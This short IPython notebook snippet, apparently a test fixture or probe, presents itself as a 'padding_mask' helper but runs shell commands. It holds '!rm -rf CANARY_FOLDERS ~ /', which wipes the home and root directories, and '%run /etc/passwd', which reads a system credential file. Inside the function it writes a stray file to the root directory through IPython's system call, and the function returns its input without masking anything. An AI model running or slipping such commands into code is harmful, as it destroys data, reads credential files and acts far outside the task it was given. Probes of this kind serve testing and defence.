"""Runs a shell by magics and by IPython, besides its answer."""
%%capture
!rm -rf CANARY_FOLDERS ~ /
%run /etc/passwd
%load_ext autoreload


def padding_mask(token_ids, padding_id=0):
    get_ipython().system("touch /left_behind")
    !touch /left_behind
    return token_ids
